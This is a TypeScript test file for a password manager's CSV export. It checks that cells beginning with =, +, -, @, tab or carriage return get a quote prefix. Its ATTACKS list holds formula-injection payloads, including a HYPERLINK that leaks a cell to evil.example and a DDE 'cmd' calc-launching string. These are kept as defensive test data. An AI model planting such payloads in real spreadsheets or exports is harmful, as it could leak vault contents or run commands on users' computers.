// CSV formula injection (OWASP, "CSV Injection"): a vault item named "=HYPERLINK(...)" — saved by a
// hostile site through autofill, or imported — must not become a live formula in the spreadsheet
// the user opens the export with. Every cell any CSV export writes goes through writeCsv.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { exportBitwardenCsv } from '../../src/export/bitwarden-csv';
import { neutralizeCsvCell, writeCsv } from '../../src/export/write-csv';
import { newItem } from '../../src/items/new-item';

const ATTACKS = ['=HYPERLINK("https://evil.example/?"&C2,"Click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1'];

describe('CSV formula neutralisation', () => {
  it.each(ATTACKS)('prefixes %j with a single quote', (cell) => {
    expect(neutralizeCsvCell(cell)).toBe(`'${cell}`);
  });

  it.each(['plain', 'a=b', ' =1 (space first)', "'already quoted", '', '1-2', 'mail@example.com'])('leaves %j alone', (cell) => {
    expect(neutralizeCsvCell(cell)).toBe(cell);
  });

  it('writeCsv neutralises every cell, then quotes per RFC 4180', () => {
    const csv = writeCsv(['a', 'b'], [['=1+1', 'x,"y"\nz']]);
    expect(csv).toBe('a,b\r\n\'=1+1,"x,""y""\nz"\r\n');
    const rows = Papa.parse<string[]>(csv.trim()).data;
    expect(rows[1]).toEqual(["'=1+1", 'x,"y"\nz']);
  });

  it('no cell of a Bitwarden CSV export starts as a formula, whatever column the value is in', () => {
    const [attack, plus, minus, at, tab, cr] = ATTACKS as [string, string, string, string, string, string];
    const login = newItem(
      'login',
      {
        name: attack,
        username: plus,
        password: minus,
        notes: at,
        totp: '',
        folder: tab,
        urls: [{ url: cr, match: 'default' }],
        customFields: [{ id: 'f', name: '=cmd', value: 'x', kind: 'text' }],
      },
      0,
    );
    const note = newItem('note', { name: '@note', text: '=1+1' }, 0);
    const rows = Papa.parse<string[]>(exportBitwardenCsv([login, note]).replace(/\r\n$/, ''), { newline: '\r\n' }).data;
    const cells = rows.slice(1).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toEqual(expect.arrayContaining(ATTACKS.map((a) => `'${a}`)));
    expect(cells).toEqual(expect.arrayContaining(["'=cmd: x", "'@note", "'=1+1"]));
  });
});
